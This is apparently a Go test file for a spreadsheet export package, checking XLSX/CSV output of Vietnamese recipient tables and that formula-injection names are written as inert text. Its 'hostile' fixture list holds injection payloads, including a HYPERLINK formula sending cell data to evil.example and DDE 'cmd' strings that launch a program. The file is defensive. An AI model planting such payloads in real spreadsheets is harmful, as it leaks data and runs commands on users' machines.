package sheets_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/loa-vn/loa"
	"github.com/loa-vn/loa/sheets"
)

// hostile are names members and units could give themselves that a spreadsheet would run.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`,
	"=cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"+84 912 345 678",
	"-2+3",
	"\t=1+1",
	"\r=1+1",
}

func tables() []loa.Table {
	people := [][]string{{"Nguyễn Văn An", "Xã Mỹ Hòa", "1"}}
	for _, h := range hostile {
		people = append(people, []string{h, "Xã Mỹ Hòa", "2"})
	}
	return []loa.Table{
		{Title: "Người nhận", Headings: []string{"Họ và tên", "Đơn vị", "Số lần"}, Numbers: []int{2}, Rows: loa.RowsOf(people)},
		{Title: "Đơn vị: tổng hợp [1/2]", Headings: []string{"Đơn vị", "Đã gửi"}, Numbers: []int{1},
			Rows: loa.RowsOf([][]string{{"Ban Chỉ huy Quân sự xã Mỹ Hòa, huyện Văn Lâm, tỉnh Hưng Yên", "12"}})},
	}
}

func TestWorkbookAsOfficialsOpenIt(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	if err := sheets.WriteXLSX(&buf, tables()...); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); strings.Join(got, "|") != "Người nhận|Đơn vị tổng hợp 1 2" {
		t.Errorf("sheets %q, want one per table, named by its title as Excel allows", got)
	}
	rows, err := f.GetRows("Người nhận")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], "|") != "Họ và tên|Đơn vị|Số lần" || len(rows) != 1+1+len(hostile) {
		t.Fatalf("rows %q", rows)
	}
	style, _ := f.GetCellStyle("Người nhận", "A1")
	if s, err := f.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("heading style %+v %v, want bold", s, err)
	}
	panes, err := f.GetPanes("Người nhận")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v %v, want the heading row frozen", panes, err)
	}
	// The widest name is the HYPERLINK one: 45 characters and a margin, under the cap.
	if w, _ := f.GetColWidth("Người nhận", "A"); w != float64(len([]rune(hostile[0]))+2) {
		t.Errorf("column A is %v wide, want its widest cell's runes + 2", w)
	}
	if w, _ := f.GetColWidth("Người nhận", "C"); w != 6+2 {
		t.Errorf("column C is %v wide, want its heading's 6 runes + 2", w)
	}
	if w, _ := f.GetColWidth("Đơn vị tổng hợp 1 2", "A"); w != sheets.MaxWidth {
		t.Errorf("a long unit name makes its column %v wide, want the cap %d", w, sheets.MaxWidth)
	}
	for i, h := range hostile {
		cell := "A" + strconv.Itoa(i+3)
		v, _ := f.GetCellValue("Người nhận", cell)
		formula, _ := f.GetCellFormula("Người nhận", cell)
		typ, _ := f.GetCellType("Người nhận", cell)
		if v != h || formula != "" || typ != excelize.CellTypeInlineString {
			t.Errorf("%s = %q (formula %q, type %v), want the text %q as text", cell, v, formula, typ, h)
		}
	}
	if typ, _ := f.GetCellType("Người nhận", "C2"); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset { // a number has no type attribute
		t.Errorf("a count is of type %v, want a number to sum", typ)
	}
}

func TestCSVCellsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	if err := sheets.WriteCSV(&buf, tables()...); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.HasPrefix(out, "\ufeffHọ và tên,Đơn vị,Số lần\r\n") && !strings.HasPrefix(out, "\ufeffHọ và tên,Đơn vị,Số lần\n") {
		t.Errorf("CSV starts %q, want the byte-order mark and the headings", out[:40])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var neutralised int
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would be read as a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				neutralised++
			}
		}
	}
	if neutralised != len(hostile) {
		t.Errorf("%d neutralised cells, want %d", neutralised, len(hostile))
	}
	if !strings.Contains(out, "Nguyễn Văn An,Xã Mỹ Hòa,1") || !strings.Contains(out, "\n\nĐơn vị,Đã gửi\n") {
		t.Errorf("ordinary cells changed or tables not apart:\n%s", out)
	}
}

// A table whose rows fail midway is reported, not written as if it were whole.
func TestRowsErrorStopsTheFile(t *testing.T) {
	t.Parallel()
	broken := errors.New("the database went away")
	tb := loa.Table{Title: "x", Headings: []string{"a"}, Rows: func(emit func([]string) error) error {
		for i := range 2 * sheets.WidthSample {
			if err := emit([]string{strconv.Itoa(i)}); err != nil {
				return err
			}
		}
		return broken
	}}
	for name, write := range map[string]func(io.Writer, ...loa.Table) error{"csv": sheets.WriteCSV, "xlsx": sheets.WriteXLSX} {
		if err := write(io.Discard, tb); !errors.Is(err, broken) {
			t.Errorf("%s: %v, want the rows' error", name, err)
		}
	}
}

func TestSheetNames(t *testing.T) {
	t.Parallel()
	got := sheets.SheetNames([]loa.Table{{Title: "Báo cáo"}, {Title: "báo cáo"}, {Title: ""}, {Title: strings.Repeat("Đơn vị ", 10)}, {Title: "'a/b'"}})
	want := []string{"Báo cáo", "báo cáo (2)", "3", "Đơn vị Đơn vị Đơn vị Đơn vị Đơn", "a b"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("%q, want %q", got, want)
	}
}
